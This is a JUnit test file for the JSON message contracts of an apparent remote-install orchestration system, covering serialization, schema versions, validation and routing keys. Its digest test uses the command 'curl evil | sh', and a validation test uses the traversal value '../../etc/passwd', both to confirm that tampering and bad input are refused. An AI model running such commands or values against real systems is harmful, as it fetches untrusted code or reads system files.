package io.lazarus.common.contract;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ContractsTest {

    private final NodeTarget node =
            new NodeTarget("web-01", "10.0.0.5", 2222, "deploy", Map.of("instanceId", "i-0abc"));
    private final InstallScript script =
            InstallScript.of("install.sh", List.of("apt-get update", "apt-get install -y tomcat10"));
    private final InstallMessage install = InstallMessage.firstAttempt(
            "run-1",
            node,
            script,
            new Watchdog(
                    Duration.ofSeconds(5),
                    null,
                    Duration.ofSeconds(90),
                    1,
                    true,
                    null,
                    2,
                    Duration.ofMinutes(20),
                    null),
            Instant.parse("2026-11-21T12:00:00Z"));

    @Test
    void installMessageSurvivesTheRoundTrip() {
        InstallMessage back = Contracts.readInstall(Contracts.toJson(install));

        assertThat(back).isEqualTo(install);
        assertThat(back.script().digestMatches()).isTrue();
    }

    @Test
    void installMessageJsonIsReadableAndVersioned() {
        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8);

        assertThat(json)
                .contains(
                        "\"schemaVersion\":1",
                        "\"stall\":\"PT1M30S\"",
                        "\"deadline\":\"2026-11-21T12:00:00Z\"",
                        "\"sha256\":\"" + script.sha256() + "\"");
    }

    @Test
    void anInstallMessageCarriesTheNamesOfItsSecretsAndAnOlderOneWithoutThemHasNone() {
        InstallMessage withSecrets = InstallMessage.firstAttempt(
                "run-1",
                node,
                script,
                null,
                Instant.parse("2026-11-21T12:00:00Z"),
                List.of("DB_PASSWORD", "API_TOKEN", "DB_PASSWORD"),
                Map.of());
        String json = new String(Contracts.toJson(withSecrets), StandardCharsets.UTF_8);

        assertThat(json).contains("\"secrets\":[\"DB_PASSWORD\",\"API_TOKEN\"]");
        assertThat(Contracts.readInstall(Contracts.toJson(withSecrets)).secrets())
                .containsExactly("DB_PASSWORD", "API_TOKEN");
        String older = new String(Contracts.toJson(install), StandardCharsets.UTF_8).replace(",\"secrets\":[]", "");
        assertThat(older).doesNotContain("secrets");
        assertThat(Contracts.readInstall(older.getBytes(StandardCharsets.UTF_8)).secrets())
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"db_password", "1PASSWORD", "DB-PASSWORD", "A B", "", "../../etc/passwd"})
    void aSecretNameThatIsNotAnUpperCaseVariableNameIsRefused(String name) {
        byte[] json = new String(Contracts.toJson(install), StandardCharsets.UTF_8)
                .replace("\"secrets\":[]", "\"secrets\":[\"" + name + "\"]")
                .getBytes(StandardCharsets.UTF_8);

        assertThatThrownBy(() -> Contracts.readInstall(json))
                .isInstanceOf(ContractException.class)
                .hasMessageContaining("secret name");
    }

    @Test
    void finishedEventSurvivesTheRoundTrip() {
        AttemptResult result = new AttemptResult(
                Outcome.COMMAND_FAILED,
                100,
                null,
                "command 2 exited 100",
                2104,
                List.of(
                        new CommandResult(0, 0, null, 1500, 1, 90_000, false, 700),
                        new CommandResult(1, 100, null, 604, 2, 12_000, true, 300)),
                List.of(
                        new AttemptStep(AttemptStep.CONNECT, null, 1, Outcome.SUCCEEDED, 40, ""),
                        new AttemptStep(AttemptStep.COMMAND, 1, 1, Outcome.COMMAND_FAILED, 300, "exited 100")),
                "Reading package lists...",
                "E: Unable to locate package tomcat10",
                4096,
                12L,
                1,
                "SHA256:abc",
                HostKeyCheck.NEW_RECORDED,
                install.watchdog(),
                true);
        AttemptEvent event = AttemptEvent.finished(install, "worker-a", true, result, "execution-1");
        AttemptEvent truncated = new AttemptEvent(
                event.schemaVersion(),
                event.type(),
                event.attemptId(),
                event.runId(),
                event.nodeId(),
                event.attempt(),
                event.at().truncatedTo(ChronoUnit.MILLIS),
                event.worker(),
                event.redelivered(),
                event.result(),
                event.deadLetter(),
                event.executionId());

        assertThat(Contracts.readEvent(Contracts.toJson(truncated))).isEqualTo(truncated);
        assertThat(event.routingKey()).isEqualTo("run.run-1.command_failed");
    }

    @Test
    void aFinishedEventFromAWorkerBeforeHostKeyRecordsIsStillReadAndSaysNothingWasChecked() {
        AttemptEvent event = AttemptEvent.finished(
                install, "worker-a", false, AttemptResult.without(Outcome.SUCCEEDED, ""), "execution-1");
        tools.jackson.databind.node.ObjectNode older =
                (tools.jackson.databind.node.ObjectNode) Contracts.mapper().readTree(Contracts.toJson(event));
        ((tools.jackson.databind.node.ObjectNode) older.get("result")).remove("hostKey");

        AttemptEvent read = Contracts.readEvent(Contracts.mapper().writeValueAsBytes(older));

        assertThat(read.result().outcome()).isEqualTo(Outcome.SUCCEEDED);
        assertThat(read.result().hostKey()).isNull();
    }

    @Test
    void theWeakerHostKeyCheckWins() {
        assertThat(HostKeyCheck.weaker(null, HostKeyCheck.KNOWN)).isEqualTo(HostKeyCheck.KNOWN);
        assertThat(HostKeyCheck.weaker(HostKeyCheck.NEW_RECORDED, HostKeyCheck.KNOWN))
                .isEqualTo(HostKeyCheck.NEW_RECORDED);
        assertThat(HostKeyCheck.weaker(HostKeyCheck.KNOWN, HostKeyCheck.NOT_VERIFIED))
                .isEqualTo(HostKeyCheck.NOT_VERIFIED);
        assertThat(HostKeyCheck.weaker(HostKeyCheck.KNOWN, null)).isEqualTo(HostKeyCheck.KNOWN);
    }

    @Test
    void startedEventHasNoResultAndItsOwnRoutingKey() {
        AttemptEvent started = AttemptEvent.started(install, "worker-a", false);

        assertThat(Contracts.readEvent(Contracts.toJson(started)).result()).isNull();
        assertThat(started.routingKey()).isEqualTo("run.run-1.started");
    }

    @Test
    void deadLetteredEventCarriesTheBrokersReasonAndItsOwnRoutingKey() {
        DeadLetter deadLetter =
                new DeadLetter(DeadLetter.DELIVERY_LIMIT, "lazarus.install", Instant.parse("2026-11-21T10:00:00Z"), 2);
        AttemptEvent event = AttemptEvent.deadLettered(
                install.attemptId(),
                install.runId(),
                install.node().id(),
                install.attempt(),
                "coordinator-1",
                deadLetter);

        AttemptEvent read = Contracts.readEvent(Contracts.toJson(event));
        assertThat(read.deadLetter()).isEqualTo(deadLetter);
        assertThat(read.result()).isNull();
        assertThat(event.routingKey()).isEqualTo("run.run-1.dead_lettered");
    }

    @Test
    void aMessageOfEventsIsAnArrayOfThemOrOneAlone() {
        AttemptEvent started = AttemptEvent.started(install, "worker-a", false, "e-1");
        AttemptEvent finished =
                AttemptEvent.finished(install, "worker-a", false, AttemptResult.without(Outcome.SUCCEEDED, ""), "e-1");
        String one = new String(Contracts.toJson(started), UTF_8);
        String other = new String(Contracts.toJson(finished), UTF_8);

        assertThat(Contracts.readEvents((" \n[" + one + "," + other + "]").getBytes(UTF_8)))
                .containsExactly(started, finished);
        assertThat(Contracts.readEvents(one.getBytes(UTF_8)))
                .as("a single event, as the coordinator publishes a dead letter")
                .containsExactly(started);
    }

    @Test
    void aMessageOfEventsWithOneBadEventIsRefusedWholeAndSaysWhichOne() {
        String one = new String(Contracts.toJson(AttemptEvent.started(install, "worker-a", false, "e-1")), UTF_8);
        String unversioned = one.replace("\"schemaVersion\":1", "\"schemaVersion\":\"1\"");
        assertThat(unversioned).isNotEqualTo(one);

        assertThatThrownBy(() -> Contracts.readEvents(("[" + one + "," + unversioned + "]").getBytes(UTF_8)))
                .isInstanceOf(ContractException.Malformed.class)
                .hasMessage("event 2 of 2: schemaVersion is missing or not a number");
        assertThatThrownBy(() -> Contracts.readEvents(("[" + one + ",7]").getBytes(UTF_8)))
                .hasMessage("event 2 of 2: not a JSON object");
        assertThatThrownBy(() -> Contracts.readEvents("[]".getBytes(UTF_8))).hasMessage("an empty array of events");
        assertThatThrownBy(() -> Contracts.readEvents(("[" + one + ",").getBytes(UTF_8)))
                .isInstanceOf(ContractException.Malformed.class)
                .hasMessageStartingWith("not JSON");
        String tooMany =
                "[" + String.join(",", java.util.Collections.nCopies(AttemptEvent.MAX_PER_MESSAGE + 1, one)) + "]";
        assertThatThrownBy(() -> Contracts.readEvents(tooMany.getBytes(UTF_8)))
                .hasMessage((AttemptEvent.MAX_PER_MESSAGE + 1) + " events in one message, more than "
                        + AttemptEvent.MAX_PER_MESSAGE);
    }

    @Test
    void anEventWhoseNamesOutgrowTheRegistrysColumnsIsMalformedNotAPoisonForTheBatchItRidesIn() {
        String started = new String(Contracts.toJson(AttemptEvent.started(install, "worker-a", false, "e-1")), UTF_8);

        for (String[] change : new String[][] {
            {"\"worker\":\"worker-a\"", "\"worker\":\"" + "w".repeat(256) + "\"", "worker is 256 characters long"},
            {"\"executionId\":\"e-1\"", "\"executionId\":\"" + "e".repeat(65) + "\"", "executionId is 65"},
            {"\"nodeId\":\"web-01\"", "\"nodeId\":\"" + "n".repeat(129) + "\"", "nodeId is 129"}
        }) {
            assertThat(started).contains(change[0]);
            byte[] json = started.replace(change[0], change[1]).getBytes(UTF_8);
            assertThatThrownBy(() -> Contracts.readEvent(json))
                    .isInstanceOf(ContractException.Malformed.class)
                    .hasMessageContaining(change[2]);
        }
        assertThat(Contracts.readEvent(
                                started.replace("worker-a", "w".repeat(255)).getBytes(UTF_8))
                        .worker())
                .hasSize(255);
        assertThatThrownBy(() -> new DeadLetter("r".repeat(33), "q", Instant.EPOCH, 0))
                .hasMessage("deadLetter.reason is 33 characters long, at most 32");
    }

    @Test
    void unknownFieldsAreToleratedAsACompatibleAddition() {
        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8)
                .replaceFirst("\\{", "{\"addedLater\":{\"x\":1},");

        assertThat(Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8))).isEqualTo(install);
    }

    @Test
    void anUnknownSchemaVersionIsRecognisedBeforeAnythingElse() {
        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8)
                .replace("\"schemaVersion\":1", "\"schemaVersion\":2")
                .replace("\"node\":", "\"nodeV2\":");

        assertThatThrownBy(() -> Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(
                        ContractException.UnsupportedSchema.class,
                        e -> assertThat(e.version()).isEqualTo(2))
                .hasMessageContaining("unsupported schemaVersion 2");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "\"schemaVersion\":1      | \"schemaVersion\":\"1\" | schemaVersion is missing or not a number",
                "\"schemaVersion\":1      | \"schemaVersion\":1.0   | schemaVersion is missing or not a number",
                "\"schemaVersion\":1,     | ''                     | schemaVersion is missing or not a number",
                "\"attempt\":1            | \"attempt\":\"1\"       | invalid InstallMessage",
                "\"port\":22              | \"port\":22.5           | invalid InstallMessage",
            })
    void wholeNumbersAreJsonIntegersNeverCoerced(String field, String written, String reason) {
        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8);
        assertThat(json).contains(field);

        assertThatThrownBy(
                        () -> Contracts.readInstall(json.replace(field, written).getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(ContractException.Malformed.class)
                .hasMessageContaining(reason);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "not json at all",
                "{\"schemaVersion\":1,",
                "[1,2,3]",
                "\"a string\"",
                "{}",
                "{\"schemaVersion\":\"one\"}",
                "{\"schemaVersion\":1}",
                "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1}",
                "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"bad.run\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}",
                "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":70000,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}",
                "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[],\"sha256\":\"x\"}}",
                "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":\"first\",\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}",
                "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"},\"watchdog\":{\"stall\":\"PT-5S\"}}"
            })
    void malformedInstallMessagesAreRecognisedWithAReason(String json) {
        assertThatThrownBy(() -> Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(ContractException.Malformed.class)
                .message()
                .isNotBlank();
    }

    @Test
    void theReasonNamesTheOffendingField() {
        String json = "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\","
                + "\"host\":\"h\",\"port\":70000,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}";

        assertThatThrownBy(() -> Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8)))
                .hasMessageContaining("node.port must be 1..65535, was 70000")
                .rootCause()
                .isInstanceOfSatisfying(
                        InvalidField.class, e -> assertThat(e.field()).isEqualTo("node.port"));
    }

    @Test
    void aRefusedValueCarriesItsFieldApartFromTheText() {
        assertThatThrownBy(() -> new Watchdog(null, null, null, -1, null, null, null, null, null))
                .isInstanceOfSatisfying(InvalidField.class, e -> {
                    assertThat(e.field()).isEqualTo("watchdog.stallRetries");
                    assertThat(e.name()).isEqualTo("stallRetries");
                    assertThat(e.detail()).isEqualTo("must be 0 or more, was -1");
                })
                .hasMessage("watchdog.stallRetries must be 0 or more, was -1");
        assertThatThrownBy(() -> new NodeTarget("web-1", " ", 22, "root", Map.of()))
                .isInstanceOfSatisfying(
                        InvalidField.class, e -> assertThat(e.name()).isEqualTo("host"))
                .hasMessage("node.host is required");
    }

    @Test
    void aTamperedScriptNoLongerMatchesItsDigest() {
        InstallScript tampered = new InstallScript("install.sh", List.of("curl evil | sh"), script.sha256());

        assertThat(tampered.digestMatches()).isFalse();
        assertThat(InstallScript.of("one", "echo hi").sha256())
                .isEqualTo("56a79f3b115448072387c2480044bfa2cf8f90e4f5fddd8c943b4e051b81f80b");
    }

    @Test
    void outcomesRouteInLowerCaseAndKnowWhatIsResurrectable() {
        assertThat(Outcome.CONNECT_FAILED.routingWord()).isEqualTo("connect_failed");
        assertThat(List.of(Outcome.values()))
                .filteredOn(Outcome::resurrectableByDefault)
                .containsExactlyInAnyOrder(
                        Outcome.CONNECT_FAILED, Outcome.STALLED, Outcome.TIMED_OUT, Outcome.DISCONNECTED);
    }

    @Test
    void anOutputEventCarriesItsChunksAndIsRoutedAsOutput() {
        AttemptEvent output = AttemptEvent.output(
                install,
                "worker-1",
                false,
                "x-1",
                List.of(new OutputChunk(OutputStreamName.STDERR, 3, 10, "a \u001b[1mbold\u001b[0m line\n")));

        AttemptEvent read = Contracts.readEvent(Contracts.toJson(output));

        assertThat(read).isEqualTo(output);
        assertThat(read.routingKey()).endsWith(".output");
        assertThat(Contracts.readEvent(Contracts.toJson(AttemptEvent.started(install, "worker-1", false)))
                        .output())
                .isEmpty();
    }

    @Test
    void anOutputEventWithoutChunksTooManyOrATooLongOneIsMalformed() {
        OutputChunk small = new OutputChunk(OutputStreamName.STDOUT, 0, 0, "x");
        String none = new String(Contracts.toJson(AttemptEvent.started(install, "worker-1", false)))
                .replace("\"STARTED\"", "\"OUTPUT\"");
        String many = new String(Contracts.toJson(AttemptEvent.output(install, "w", false, "x", List.of(small))))
                .replace(
                        "\"output\":[",
                        "\"output\":[" + "{\"stream\":\"STDOUT\",\"seq\":1,\"offset\":0,\"text\":\"x\"},".repeat(4));
        String longText = new String(Contracts.toJson(AttemptEvent.output(install, "w", false, "x", List.of(small))))
                .replace("\"text\":\"x\"", "\"text\":\"" + "x".repeat(OutputChunk.MAX_TEXT_CHARS + 1) + "\"");

        for (String json : List.of(none, many, longText)) {
            assertThatThrownBy(() -> Contracts.readEvent(json.getBytes(java.nio.charset.StandardCharsets.UTF_8)))
                    .isInstanceOf(ContractException.Malformed.class)
                    .hasMessageContaining("output");
        }
    }
}
